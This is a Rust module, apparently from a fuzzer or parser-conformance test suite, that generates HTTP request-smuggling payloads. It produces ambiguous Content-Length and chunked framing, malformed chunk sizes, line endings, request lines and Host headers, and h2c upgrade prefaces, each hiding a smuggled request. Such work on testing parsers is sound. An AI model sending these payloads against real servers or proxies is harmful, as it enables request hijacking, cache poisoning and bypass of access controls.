//! Requests, heads and chunks that end in two places, or are none.

use std::iter;

use super::{POST, hide_all, request, texts};
use crate::payloads::{LAST, SMUGGLED, latin};

pub(super) fn methods() -> Vec<Vec<u8>> {
    let overridden = "X-HTTP-Method-Override: HEAD\r\nX-HTTP-Method: HEAD\r\nX-Method-Override: HEAD\r\nReal-Method: HEAD\r\nRequest-Method: HEAD\r\nMethod: HEAD\r\n";
    let chunk = format!("{:x}\r\n{SMUGGLED}\r\n0\r\n\r\n", SMUGGLED.len());
    let mut all = Vec::new();
    for method in
        ["GET", "HEAD", "OPTIONS", "DELETE", "TRACE", "CONNECT", "PATCH", "FOO", "get", "PRI", "POST"]
    {
        for target in ["/x", "*", "h:80"] {
            for version in [
                "HTTP/1.1",
                "HTTP/1.0",
                "HTTP/1.1\r\nConnection: keep-alive",
                "HTTP/1.0\r\nConnection: keep-alive",
            ] {
                let line = format!("{method} {target} {version}");
                for more in ["", overridden, "Range: bytes=0-0\r\n"] {
                    let with = |framing: String| format!("{more}{framing}").into_bytes();
                    all.push(request(
                        &line,
                        &with(format!("Content-Length: {}", SMUGGLED.len())),
                        SMUGGLED.as_bytes(),
                    ));
                    all.push(request(&line, &with("Transfer-Encoding: chunked".into()), chunk.as_bytes()));
                    all.push(request(&line, &with("X: y".into()), SMUGGLED.as_bytes()));
                }
            }
        }
    }
    all
}

pub(super) fn early_ends() -> Vec<Vec<u8>> {
    let ends = [
        "\n\n",
        "\r\r",
        "\n\r\n",
        "\r\n\n",
        "\r\n\rX",
        "\r\n\r ",
        "\r\n\r\r",
        "\r\n\r\0",
        "\n\r",
        "\r\n:\r\n",
        "\r\n\0\r\n",
        "\r\n \r\n",
        "\r\n\t\r\n",
        "\0\r\n\r\n",
        "\u{b}\u{b}",
        "\u{85}\u{85}",
    ];
    let mut all = Vec::new();
    for end in ends {
        let smuggled = SMUGGLED.as_bytes();
        // What stands behind such an end is a request for one, and fields for the other.
        let fields = [b"X: y", &latin(end)[..], smuggled].concat();
        all.push(request(POST, &[b"Content-Length: 0\r\n", &fields[..]].concat(), b""));
        all.push(request("GET /x HTTP/1.1", &fields, b""));
        all.extend(hide_all(iter::once([b"X: y", &latin(end)[..], b"{n}: {v}"].concat())));
        all.extend(hide_all(iter::once([b"{n}: {v}", &latin(end)[..], b"A: b"].concat())));
    }
    all.extend(hide_all(texts(&[
        "X-Invalid Y: \r\n{n}: {v}",
        "X Y\r\n{n}: {v}",
        "X\r\n{n}: {v}",
        "=\r\n{n}: {v}",
        "GET / HTTP/1.1\r\n{n}: {v}",
        "\u{7f}: x\r\n{n}: {v}",
    ])));
    all
}

pub(super) fn chunked(body: &[u8]) -> Vec<u8> {
    request(POST, b"Transfer-Encoding: chunked", body)
}

pub(super) fn sizes() -> Vec<Vec<u8>> {
    let len = SMUGGLED.len();
    let forms = [
        format!("0x{len:x}"),
        format!("0X{len:x}"),
        format!("+{len:x}"),
        format!("-{len:x}"),
        format!("{len:x}_0"),
        format!("0_{len:x}"),
        format!(" {len:x}"),
        format!("\t{len:x}"),
        format!("           {len:x}"),
        format!("{len:x} "),
        format!("{len:x}\t"),
        format!("{len:x}g"),
        format!("{len:x} x"),
        format!("{len:x},"),
        format!("{len:x}.0"),
        format!("{len:x}these-are-none"),
        format!("{len:X}"),
        format!("0{len:x}"),
        format!("0000000000000000{len:x}"),
        format!("{len:x}\0"),
        format!("\0{len:x}"),
        format!("{:x}", (1_u128 << 64) + len as u128),
        format!("{:x}", (1_u64 << 32) + len as u64),
        format!("{:x}", u64::MAX),
        "-1".into(),
        "-0x0".into(),
        "+0".into(),
        "0x0".into(),
        "0_2e".into(),
        "0x".into(),
        String::new(),
        " ".into(),
        "INVALID!!!".into(),
        "Z".into(),
        "\u{ff15}".into(),
        "\u{a0}5".into(),
        "'5'".into(),
        "\"5\"".into(),
        "5e0".into(),
        "\r".into(),
        "\n".into(),
        ";".into(),
        ";x".into(),
    ];
    let mut all = Vec::new();
    for form in forms {
        all.push(chunked(&latin(&format!("{form}\r\n{SMUGGLED}\r\n0\r\n\r\n"))));
        all.push(chunked(&latin(&format!("{form}\r\n\r\n{SMUGGLED}"))));
        all.push(chunked(&latin(&format!("1\r\nZ\r\n{form}\r\n\r\n{SMUGGLED}"))));
        all.push(chunked(&latin(&format!("{form}\r\n{SMUGGLED}"))));
    }
    all
}

pub(super) fn line_ends() -> Vec<Vec<u8>> {
    let ends = ["\n", "\r", "\rX", "\r\r", "", "X", "XX", "\n\r", "\r\n\r", "\0\n", " \n"];
    let mut all = Vec::new();
    for end in ends {
        // Of a chunk's size, its extension, its data, the last chunk and the trailers: one reader's next line is the other's rest.
        let inner = format!("{SMUGGLED}0\r\n\r\n");
        let size = format!("{:x}", inner.len() + 4);
        for body in [
            format!("5{end}hello\r\n0\r\n\r\n{SMUGGLED}"),
            format!("5;{end}x\r\nhello\r\n0\r\n\r\n{SMUGGLED}"),
            format!("2;{end}XX\r\n{size}\r\n{size}\r\n0\r\n\r\n{inner}"),
            format!("2;{end}XX\r\n10\r\n{size}\r\nAAAABBBB\r\n0\r\n\r\n{inner}"),
            format!("2{end};a\r\nhi\r\n{size}\r\n0\r\n\r\n{inner}"),
            format!("2;a=b{end}{size}\r\nhi\r\n0\r\n\r\n{inner}"),
            format!("2;a=\"{end}\"\r\nhi\r\n0\r\n\r\n{inner}"),
            format!("5\r\nhello{end}{size}\r\n17\r\nAAAABBBB\r\n0\r\n\r\n{inner}"),
            format!("5\r\nhello{end}c\r\n{size}\r\nAAAABBBB\r\n0\r\n\r\n{inner}"),
            format!("2\r\nXX{end}12\r\nXX\r\n{size}\r\nXXAAAABBBB\r\n0\r\n\r\n{inner}"),
            format!("2\r\nXX{end}10\r\n\r\n0\r\n\r\n{inner}"),
            format!("1\r\nZ\r\n0{end}\r\n{SMUGGLED}"),
            format!("1\r\nZ\r\n0\r\n{end}{SMUGGLED}"),
            format!("1\r\nZ\r\n0\r\nX: y{end}{SMUGGLED}\r\n"),
            format!("1\r\nZ\r\n{end}\r\n0\r\n\r\n{SMUGGLED}"),
            format!("1\r\nZ\r\n\r\n{end}0\r\n\r\n{SMUGGLED}"),
            format!("17\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n\r\n{end}\r\n0\r\n\r\n"),
            format!("0\r\nContent-Length: 5{end}\r\n\r\n{SMUGGLED}"),
            format!("0\r\n\r\n{end}{SMUGGLED}"),
        ] {
            all.push(chunked(&latin(&body)));
        }
    }
    all
}

pub(super) fn request_lines() -> Vec<Vec<u8>> {
    let framing = format!("Content-Length: {}", SMUGGLED.len());
    let mut lines: Vec<String> = Vec::new();
    for version in [
        "HTTP/1.2",
        "HTTP/1.32",
        "HTTP/1.10",
        "HTTP/01.1",
        "HTTP/1.01",
        "HTTP/1.1.1",
        "HTTP/1",
        "HTTP/1.",
        "HTTP/.1",
        "HTTP/0.9",
        "HTTP/2",
        "HTTP/2.0",
        "HTTP/2.2",
        "HTTP/3.0",
        "HTTP/4294967297.1",
        "HTTP/257.257",
        "HTTP/\r\r1.1",
        "HTTP /1.1",
        "HTTP/ 1.1",
        "HTTP/1 .1",
        "http/1.1",
        "Http/1.1",
        "HTTPS/1.1",
        "HTP/1.1",
        "ICY/1.1",
        "RTSP/1.0",
        "HTTP/-1.1",
        "HTTP/+1.1",
        "HTTP/1,1",
        "HTTP/1.1x",
        "HTTP/1.1 x",
        "HTTP/1.1\t",
        "HTTP/1.1 HTTP/1.0",
        "HTTP/1.0 HTTP/1.1",
        "HTTP\\1.1",
        "",
        "/",
        "HTTP/",
    ] {
        lines.push(format!("POST /x {version}"));
    }
    for method in [
        "P\0ST",
        "P\u{1}ST",
        "PO ST",
        "POST\t",
        "\tPOST",
        " POST",
        "PO:ST",
        "PO/ST",
        "P\u{e9}ST",
        "post",
        "POST\"",
        "G=\":<>(e),[T];?\"",
        "\0",
        "!",
        "POST\u{b}",
        "POST\r",
        "\r\nPOST",
        "\nPOST",
        "\r\n\r\nPOST",
        "\u{feff}POST",
    ] {
        lines.push(format!("{method} /x HTTP/1.1"));
    }
    for target in [
        "!",
        "x",
        "/x y",
        "/x\ty",
        "/x\0y",
        "/x\u{e9}",
        "/x#y",
        "/x\\y",
        "?x",
        "//",
        "///h/x",
        "/%",
        "/%zz",
        "/%00",
        "/%0d%0aX:y",
        "/x\ry",
        "/x\ny",
        "\\x",
        "http:/x",
        "http:///x",
        "http://h@e/x",
        "http://e@h/x",
        "http://h:80:80/x",
        "http://h\\x",
        "ftp://h/x",
        "h:80",
        "http://[h/x",
        "@h/",
        "@h",
        "/x HTTP/1.0\r\nX: y",
        "/\nHTTP/1.1\r\nX: y",
        "/x\u{b}HTTP/1.1",
        "*x",
        "",
    ] {
        lines.push(format!("POST {target} HTTP/1.1"));
    }
    lines
        .iter()
        .map(|line| latin(&format!("{line}\r\nHost: h\r\nX-Key: k\r\n{framing}\r\n\r\n{SMUGGLED}{LAST}")))
        .chain(hosts())
        .collect()
}

pub(super) fn hosts() -> Vec<Vec<u8>> {
    [
        "h\r\nHost: e",
        "e\r\nHost: h",
        "h, e",
        "h e",
        "h/x",
        "foo/bar",
        "h\0e",
        "h#e",
        "h?e",
        "h@e",
        "e@h",
        "h:80:80",
        "h:x",
        "h\\e",
        "\"h\"",
        "h\r\n e",
        "\u{ff}h\u{ff}",
        "[::1",
        "",
        "h\r\nhost : e",
        "h\r\n Host: e",
    ]
    .iter()
    .map(|host| {
        latin(&format!(
            "POST /x HTTP/1.1\r\nHost: {host}\r\nX-Key: k\r\nContent-Length: {}\r\n\r\n{SMUGGLED}{LAST}",
            SMUGGLED.len()
        ))
    })
    .collect()
}

pub(super) fn protocols() -> Vec<Vec<u8>> {
    let settings = "\0\0\0\u{4}\0\0\0\0\0";
    let mut all = Vec::new();
    for preface in [
        format!("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{settings}"),
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".into(),
        "PRI * HTTP/2.0\r\n\r\n".into(),
        "PRI * HTTP/2.0\r\nHost: h\r\n\r\n".into(),
        "PRI * HTTP/1.1\r\nHost: h\r\n\r\nSM\r\n\r\n".into(),
        "PRI / HTTP/2.0\r\n\r\nSM\r\n\r\n".into(),
    ] {
        all.push(latin(&format!("{preface}{SMUGGLED}{LAST}")));
        all.push(latin(&format!("GET /x HTTP/1.1\r\nHost: h\r\n\r\n{preface}{SMUGGLED}{LAST}")));
    }
    for upgrade in [
        "h2c",
        "H2C",
        "h2",
        "h2c, websocket",
        "websocket, h2c",
        "HTTP/2.0",
        "websocket",
        "TLS/1.0",
        "h2c\r\nUpgrade: websocket",
        "h2c\u{b}",
        "x",
    ] {
        for connection in
            ["Upgrade, HTTP2-Settings", "Upgrade", "HTTP2-Settings", "close", "upgrade, Content-Length"]
        {
            let fields =
                format!("Upgrade: {upgrade}\r\nConnection: {connection}\r\nHTTP2-Settings: AAMAAABkAAQAAP__");
            let with = |framing: &str| latin(&format!("{fields}\r\n{framing}"));
            let length = format!("Content-Length: {}", SMUGGLED.len());
            all.push(request("GET /x HTTP/1.1", &with(&length), SMUGGLED.as_bytes()));
            all.push(request("GET /x HTTP/1.1", &latin(&fields), SMUGGLED.as_bytes()));
            all.push(request(
                POST,
                &with("Transfer-Encoding: chunked"),
                format!("0\r\n\r\n{SMUGGLED}").as_bytes(),
            ));
        }
    }
    all
}
